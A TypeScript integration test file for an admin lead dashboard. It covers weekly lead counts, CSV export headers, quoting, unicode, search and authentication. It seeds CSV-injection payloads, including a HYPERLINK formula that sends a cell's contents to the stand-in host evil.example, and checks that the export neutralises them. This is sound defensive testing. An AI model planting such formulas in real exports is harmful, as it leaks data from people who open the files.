// The admin's lead tools: weekly counts for the dashboard chart and CSV export of each list.
import { parse } from 'csv-parse/sync';
import { signedInAdmin } from '../support/test-server';
import { weekStartUtc } from '../../graphql-server/src/modules/leads/leads.service';
import { dataOf, startServer, START_TIMEOUT, validContact, validLead, type Agent } from './helpers';
import type { TestServer } from '../support/test-server';

const DAY = 24 * 60 * 60 * 1000;

/** The export's rows without its first column, the lead's id (issue 15), after checking that column. */
function withoutIds(rows: string[][]): string[][] {
  expect(rows[0][0]).toBe('ID');
  for (const row of rows.slice(1)) expect(row[0]).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/);
  return rows.map((row) => row.slice(1));
}

describe('lead tools', () => {
  let server: TestServer;
  let admin: Agent;

  beforeAll(async () => {
    server = await startServer();
    admin = (await signedInAdmin(server)).agent;
    // Leads this week, one and three weeks ago, and one outside a 12-week window.
    const at = (daysAgo: number) => new Date(Date.now() - daysAgo * DAY);
    const insert = (table: string, cols: string, values: unknown[]) =>
      server.dataSource.query(`INSERT INTO "${table}" (${cols}) VALUES (${values.map((_, i) => `$${i + 1}`).join(',')})`, values);
    await insert('playbook_leads', '"name","email","company","createdAt"', ['Ann Old', 'old@example.com', 'Old Co', at(200)]);
    await insert('playbook_leads', '"name","email","company","createdAt"', ['Bea Three', 'three@example.com', 'Three Co', at(21)]);
    // CSV injection: a formula after a ';' (a ';' reader splits the cell there) and after a TAB
    // (stored around the API, which trims it).
    await insert('playbook_leads', '"name","email","company","createdAt"', [
      'Bob;=HYPERLINK("http://evil.example/?d="&B2,"Click")',
      'bob@example.com',
      '\t=1+2',
      at(400),
    ]);
    await insert('contact_requests', '"name","email","company","cloudSpending","message","privacyConsent","createdAt"', [
      'Cy Week',
      'week@example.com',
      'Week Co',
      '50k-100k',
      'Hello, "quoted", and\nmulti-line',
      true,
      at(7),
    ]);
    await server
      .agent()
      .post('/api/playbook-lead')
      .send(validLead({ name: 'Dee Now', email: 'now@example.com', company: '=HYPERLINK("x")' }))
      .expect(201);
    await server
      .agent()
      .post('/api/contact')
      .send(
        validContact({
          name: 'Eve Now',
          email: 'eve@example.com',
          company: 'Ünïcødé GmbH',
          toolResults: { tool: 'simulator', summary: 'Simulator: $670/month' },
        }),
      )
      .expect(201);
  }, START_TIMEOUT);
  afterAll(() => server.close());

  it('counts leads per week for the last 12 weeks, oldest first, zeros included', async () => {
    const res = await server.gql('{ leadsOverTime { weekStart playbookLeads contactRequests } }', undefined, admin);
    const weeks = dataOf(res).leadsOverTime as Array<{ weekStart: string; playbookLeads: number; contactRequests: number }>;
    expect(weeks).toHaveLength(12);
    expect(weeks[11].weekStart).toBe(weekStartUtc(new Date()).toISOString());
    for (let i = 1; i < weeks.length; i++) {
      expect(Date.parse(weeks[i].weekStart) - Date.parse(weeks[i - 1].weekStart)).toBe(7 * DAY);
    }
    const total = (key: 'playbookLeads' | 'contactRequests') => weeks.reduce((sum, w) => sum + w[key], 0);
    expect(total('playbookLeads')).toBe(2); // the 200-day-old lead is outside the window
    expect(total('contactRequests')).toBe(2);
    expect(weeks[11].playbookLeads + weeks[11].contactRequests).toBeGreaterThanOrEqual(2);
    const threeWeeksAgo = weeks.find((w) => w.weekStart === weekStartUtc(new Date(Date.now() - 21 * DAY)).toISOString());
    expect(threeWeeksAgo?.playbookLeads).toBe(1);
  });

  it('answers at most 52 weeks and refuses more with the allowed range (issue 15: no silent clamp)', async () => {
    expect(dataOf(await server.gql('{ leadsOverTime(weeks: 52) { weekStart } }', undefined, admin)).leadsOverTime).toHaveLength(52);
    const res = await server.gql('{ leadsOverTime(weeks: 500) { weekStart } }', undefined, admin);
    expect(res.body.errors[0]).toMatchObject({
      message: 'weeks must be a whole number from 1 to 52.',
      extensions: { code: 'BAD_USER_INPUT' },
    });
  });

  it('exports playbook leads as UTF-8 CSV with a header, newest first, formulas neutralised', async () => {
    const res = await admin
      .get('/api/admin/playbook-leads/export.csv')
      .buffer(true)
      .parse((r, cb) => {
        const chunks: Buffer[] = [];
        r.on('data', (c: Buffer) => chunks.push(c));
        r.on('end', () => cb(null, Buffer.concat(chunks).toString('utf8')));
      });
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="playbook-leads-\d{4}-\d{2}-\d{2}\.csv"$/);
    const text = res.body as string;
    expect(text.startsWith('\uFEFF')).toBe(true);
    const rows = withoutIds(parse(text.slice(1)) as string[][]);
    // The pipeline columns (issue 35) come after the lead's own, then where the visit came from (issue 32): readers of the earlier columns by position keep working.
    expect(rows[0].slice(0, 8)).toEqual(['Name', 'Email', 'Company', 'Date', 'Status', 'Owner', 'Owner ID', 'Labels']);
    expect(rows[0].slice(8, 10)).toEqual(['Landing Page', 'Referrer']);
    expect(rows.slice(1).map((r) => r[0])).toEqual([
      'Dee Now',
      'Bea Three',
      'Ann Old',
      `'Bob;=HYPERLINK("http://evil.example/?d="&B2,"Click")`,
    ]);
    expect(rows[1][2]).toBe(`'=HYPERLINK("x")`);
    expect(rows[4][2]).toBe(`'\t=1+2`);
  });

  it('quotes every field, so a reader that splits cells on ; or TAB never finds a formula at a cell start', async () => {
    const text = (await admin.get('/api/admin/playbook-leads/export.csv').buffer(true)).text.slice(1);
    const lines = text.split('\r\n').filter(Boolean);
    expect(lines[0]).toMatch(/^"ID","Name","Email","Company","Date","Status","Owner","Owner ID","Labels","Landing Page",/);
    for (const line of lines) expect(line).toMatch(/^"[^]*"$/);
    expect(text).toContain(`"'Bob;=HYPERLINK(""http://evil.example/?d=""&B2,""Click"")","bob@example.com","'\t=1+2",`);
  });

  it('exports only the contact requests matching the search, with quoting, unicode and tool results', async () => {
    const all = await admin.get('/api/admin/contact-requests/export.csv').buffer(true);
    const allRows = withoutIds(parse(all.text.slice(1)) as string[][]);
    expect(allRows[0]).toEqual([
      'Name',
      'Email',
      'Company',
      'Cloud Spending',
      'Message',
      'Tool Results',
      'Date',
      'Status',
      'Owner',
      'Owner ID',
      'Labels',
      // Where each lead's visit came from (issue 32).
      'Landing Page',
      'Referrer',
      'UTM Source',
      'UTM Medium',
      'UTM Campaign',
      'UTM Term',
      'UTM Content',
      'Pages Before Lead',
      'Tools Before Lead',
      'Seconds To Lead',
      // The stored range code, appended last so readers by position keep working (issue 34).
      'Cloud Spending Code',
    ]);
    expect(allRows).toHaveLength(3);
    const week = allRows.find((r) => r[0] === 'Cy Week')!;
    expect(week[4]).toBe('Hello, "quoted", and\nmulti-line');
    // The range as the form and the admin label it, and the code in the last column.
    expect(week[3]).toBe('$50K - $100K');
    expect(week[week.length - 1]).toBe('50k-100k');
    const eve = allRows.find((r) => r[0] === 'Eve Now')!;
    expect(eve[2]).toBe('Ünïcødé GmbH');
    expect(JSON.parse(eve[5])).toEqual({ tool: 'simulator', summary: 'Simulator: $670/month' });

    const searched = await admin.get('/api/admin/contact-requests/export.csv?search=week').buffer(true);
    const rows = withoutIds(parse(searched.text.slice(1)) as string[][]);
    expect(rows.map((r) => r[0])).toEqual(['Name', 'Cy Week']);
  });

  it('refuses anonymous exports', async () => {
    const res = await server.agent().get('/api/admin/playbook-leads/export.csv');
    expect(res.status).toBe(401);
    expect(res.body.message).toBe('You must be signed in as an administrator.');
  });
});
